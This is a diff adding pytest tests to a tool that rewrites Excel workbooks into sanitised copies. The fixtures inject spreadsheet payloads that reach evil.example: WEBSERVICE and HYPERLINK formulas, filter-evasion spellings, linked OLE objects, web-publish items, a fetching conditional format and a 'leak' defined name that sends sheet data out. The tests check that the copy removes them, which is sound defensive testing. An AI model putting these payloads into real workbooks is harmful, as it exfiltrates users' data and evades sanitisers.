@@ -9,6 +9,7 @@ import shutil
 import struct
 import subprocess
 import zipfile
+from collections.abc import Callable
 from functools import partial
 from pathlib import Path
 
@@ -402,3 +403,75 @@ def test_the_problem_sheet_takes_a_relationship_id_the_workbook_leaves_free(reje
     assert is_patched(shifted, problems)
     fast, slow = both_copies(shifted, problems, tmp_path)
     assert_same_content(fast, slow)
+
+
+# --- what acts when the copy is opened, however it is spelled (each found by trying to get it past the patch) --
+
+def _row(cells: bytes) -> Callable[[bytes], bytes]:
+    return lambda xml: xml.replace(b"</sheetData>", b'<row r="9000">' + cells + b"</row></sheetData>", 1)
+
+
+def _utf16(xml: bytes) -> bytes:
+    text = _row(b'<c r="A9000"><f>HYPERLINK("http://evil.example/x","x")</f></c>')(xml).decode("utf-8")
+    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
+
+
+LIVE = {
+    "a formula split by a comment": _row(b'<c r="A9000" t="str"><f>WEBSER<!-- -->VICE("http://evil.example/c")</f>'
+                                         b"</c>"),
+    "a formula split by a processing instruction": _row(b'<c r="A9000" t="str"><f>HYPER<?pi x?>LINK("http://e","x")'
+                                                        b"</f></c>"),
+    "a sheet in UTF-16": _utf16,
+    "a linked object": lambda xml: xml.replace(b"</worksheet>", b'<oleObjects><oleObject progId="Excel.Sheet.12" '
+                                               b'link="\\\\evil.example\\share\\x.xlsx" oleUpdate="OLEUPDATE_ALWAYS" '
+                                               b'shapeId="1025"/></oleObjects></worksheet>'),
+    "web publishing to a share": lambda xml: xml.replace(b"</worksheet>", b'<webPublishItems count="1"><webPublishItem'
+                                                         b' id="1" divId="x" sourceType="sheet" destinationFile='
+                                                         b'"\\\\evil.example\\share\\x.htm" autoRepublish="1"/>'
+                                                         b"</webPublishItems></worksheet>"),
+    "a conditional format that fetches": lambda xml: xml.replace(b"<pageMargins", b'<conditionalFormatting sqref="A2">'
+                                                                 b'<cfRule type="expression" priority="1"><formula>'
+                                                                 b'LEN(WEBSERVICE("http://evil.example/"&amp;B2))&gt;0'
+                                                                 b"</formula></cfRule></conditionalFormatting>"
+                                                                 b"<pageMargins", 1),
+    "a character reference": _row(b'<c r="A9000" t="str"><f>&#87;EBSERVICE("http://evil.example/")</f></c>'),
+}
+
+
+def _live_in(copy: Path) -> list[str]:
+    """Whatever in a copy could reach beyond it when opened: formulas in cells, names, conditional formats."""
+    wb = load_workbook(copy)
+    found = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
+             if c.data_type == "f" and reaches_out(str(c.value))]
+    found += [n for n, d in wb.defined_names.items() if reaches_out(str(d.attr_text))]
+    found += [f"{ws.title} rule" for ws in wb.worksheets for cf in ws.conditional_formatting
+              for r in cf.rules for f in r.formula or [] if reaches_out(f)]
+    with zipfile.ZipFile(copy) as zf:
+        found += [n for n in zf.namelist() for word in (b"oleObject", b"webPublish") if word in zf.read(n)]
+    return found
+
+
+@pytest.mark.parametrize("kind", sorted(LIVE))
+def test_a_sheet_without_problems_holding_something_live_goes_through_openpyxl_which_removes_it(rejected, tmp_path,
+                                                                                                kind):
+    source, problems = rejected
+    part = sheet_part(source, "一票否决")  # (no problem on it: the patch would copy it as it is)
+    odd = rewritten(source, tmp_path / "odd.xlsx", **{part.replace("/", "__"): LIVE[kind](entry(source, part))})
+    assert not is_patched(odd, problems)
+    copy = tmp_path / "copy.xlsx"
+    write_marked_copy(odd, problems, copy, created=WHEN)
+    assert _live_in(copy) == [] and load_workbook(copy).sheetnames[0] == PROBLEM_SHEET
+
+
+def test_a_defined_name_that_fetches_is_not_copied(rejected, tmp_path):
+    source, problems = rejected
+    book = entry(source, "xl/workbook.xml")
+    name = b'<definedName name="leak">WEBSERVICE("http://evil.example/?"&amp;\'\xe5\x85\x9a\xe5\x91\x98\xe5\x90\x8d' \
+           b'\xe5\x86\x8c\'!$B$2)</definedName>'
+    book = book.replace(b"</definedNames>", name + b"</definedNames>") if b"</definedNames>" in book else \
+        book.replace(b"</sheets>", b"</sheets><definedNames>" + name + b"</definedNames>")
+    odd = rewritten(source, tmp_path / "odd.xlsx", **{"xl__workbook.xml": book})
+    assert "leak" in load_workbook(odd).defined_names and not is_patched(odd, problems)
+    copy = tmp_path / "copy.xlsx"
+    write_marked_copy(odd, problems, copy, created=WHEN)
+    assert "leak" not in load_workbook(copy).defined_names and _live_in(copy) == []
